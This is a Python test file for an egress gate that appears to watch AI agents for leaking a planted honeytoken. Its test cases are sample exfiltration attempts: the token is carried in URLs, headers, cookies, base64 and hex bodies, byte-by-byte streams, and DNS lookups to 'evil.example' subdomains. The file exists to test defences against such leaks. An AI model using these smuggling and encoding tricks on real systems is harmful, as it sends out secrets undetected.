"""An agent that lets its honeytoken go has been fooled: the gate stops it, and says so at once."""

from __future__ import annotations

import base64
import socket
from collections.abc import Callable
from typing import Any

import pytest

from colony import errors, schema
from egress.settings import Model
from tests.egress.house import OK, House, answering, code, echo, everything, status, until
from tests.egress.test_gate_secrets import HOST, Site, open_site, secret

__all__ = ["open_site"]
TOKEN = "colony-admin-0123456789abcdef0123456789abcdef01234567"


def plant(house: House, user: str = "scout") -> None:
    house.vault.hear(schema.EgressSecrets(version="planted", agents={}, honeytokens={user: TOKEN}))


def request(port: int, path: str = "/", *headers: str, body: bytes = b"") -> bytes:
    head = [f"POST http://127.0.0.1:{port}{path} HTTP/1.1", f"Host: 127.0.0.1:{port}", *headers, f"Content-Length: {len(body)}", "", ""]
    return "\r\n".join(head).encode() + body


def require_betrayed(house: House, answer: bytes) -> schema.Contact:
    assert (status(answer), code(answer)) == (403, "egress_denied")
    assert TOKEN.encode() not in answer
    found: schema.Contact = until(lambda: next((contact for contact in house.colony.ended if contact.holds_honeytoken), None))
    assert found.verdict == "denied"
    return found


@pytest.mark.parametrize(
    "what",
    [
        {"path": f"/?t={TOKEN}"},
        {"path": f"/{base64.urlsafe_b64encode(b'a' + TOKEN.encode()).decode()}"},
        {"headers": [f"Authorization: Bearer {TOKEN}"]},
        {"headers": [f"Cookie: {TOKEN.encode().hex()}"]},
    ],
)
def test_a_head_that_holds_it_goes_nowhere(house: House, what: dict[str, Any]) -> None:
    plant(house)
    upstream = house.upstream()
    require_betrayed(house, house.ask(request(upstream.port, what.get("path", "/"), *what.get("headers", []))))
    assert upstream.accepted == 0


@pytest.mark.parametrize("encode", [bytes, base64.b64encode, lambda value: value.hex().encode()])
def test_a_body_that_holds_it_is_cut(house: House, encode: Callable[[bytes], bytes]) -> None:
    plant(house)
    upstream = house.upstream()
    filling = b"x" * 70_000
    contact = require_betrayed(house, house.ask(request(upstream.port, body=filling + encode(TOKEN.encode()) + filling)))
    assert (contact.host, contact.port) == ("127.0.0.1", upstream.port)


def test_a_body_that_brings_it_bit_by_bit_is_cut_before_its_end(house: House) -> None:
    plant(house)
    upstream = house.upstream()
    with house.knock() as line:
        line.sendall(request(upstream.port, body=TOKEN.encode())[: -len(TOKEN)])
        for letter in TOKEN.encode():
            line.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4096)
            line.sendall(bytes([letter]))
        require_betrayed(house, everything(line))
    assert not any(TOKEN.encode() in heard for heard in upstream.heard)


@pytest.mark.parametrize("host", [f"{TOKEN}.evil.example", f"{TOKEN[:20]}.{TOKEN[20:]}.evil.example", f"{TOKEN.upper()}.evil.example"])
@pytest.mark.parametrize("ask", ["CONNECT {host}:443 HTTP/1.1\r\n\r\n", "GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n"])
def test_no_name_that_holds_it_is_looked_up(house: House, host: str, ask: str) -> None:
    plant(house)
    house.allow("*")
    require_betrayed(house, house.ask(ask.format(host=host).encode()))
    assert house.looked_up == []


def test_what_goes_to_a_host_with_a_secret_is_looked_at_too(open_site: Callable[..., Site]) -> None:
    for where in ("path", "body"):
        site = open_site()
        bound = {"scout": [secret(f"{HOST}:{site.port}")]}
        site.house.vault.hear(schema.EgressSecrets(version="both", agents=bound, honeytokens={"scout": TOKEN}))
        body = TOKEN if where == "body" else ""
        path = f"/{TOKEN}" if where == "path" else "/"
        answer = site.ask(f"POST {path} HTTP/1.1\r\nHost: {HOST}:{site.port}\r\nContent-Length: {len(body)}\r\n\r\n{body}")
        require_betrayed(site.house, answer)
        assert not any(TOKEN.encode() in heard for heard in site.upstream.heard)


def test_the_model_may_think_of_it(open_house: Callable[..., House]) -> None:
    upstream = open_house().upstream(answering(OK))
    house = open_house(model=Model(f"http://127.0.0.1:{upstream.port}"))
    plant(house)
    assert status(house.ask(f"GET /v1/models HTTP/1.1\r\nHost: x\r\nX-Note: {TOKEN}\r\n\r\n".encode())) == 200
    assert not any(contact.holds_honeytoken for contact in house.colony.contacts)


def test_who_gives_it_away_hears_of_it_when_the_colony_has(house: House) -> None:
    plant(house)
    house.colony.trouble = errors.Unavailable("restarts")
    upstream = house.upstream()
    with house.knock() as line:
        line.sendall(request(upstream.port, f"/{TOKEN}"))
        line.settimeout(0.5)
        with pytest.raises(TimeoutError):
            line.recv(1)
        house.colony.trouble = None
        line.settimeout(10)
        assert status(line.recv(4096)) == 403
    assert [contact.holds_honeytoken for contact in house.colony.contacts] == [True]


def test_each_time_is_told_by_itself(house: House) -> None:
    plant(house)
    upstream = house.upstream()
    for _ in range(3):
        assert status(house.ask(request(upstream.port, f"/{TOKEN}"))) == 403
    until(lambda: sum(contact.holds_honeytoken for contact in house.colony.ended) == 3)


def test_anothers_is_nothing_to_anybody_else(house: House) -> None:
    plant(house, "rook")
    upstream = house.upstream()
    assert status(house.ask(request(upstream.port, f"/{TOKEN}"))) == 200


def test_a_tunnels_inside_is_the_agents(house: House) -> None:
    plant(house)
    upstream = house.upstream(echo)
    with house.tunnel("127.0.0.1", upstream.port) as tunnel:
        tunnel.sendall(TOKEN.encode())
        assert tunnel.recv(100) == TOKEN.encode()
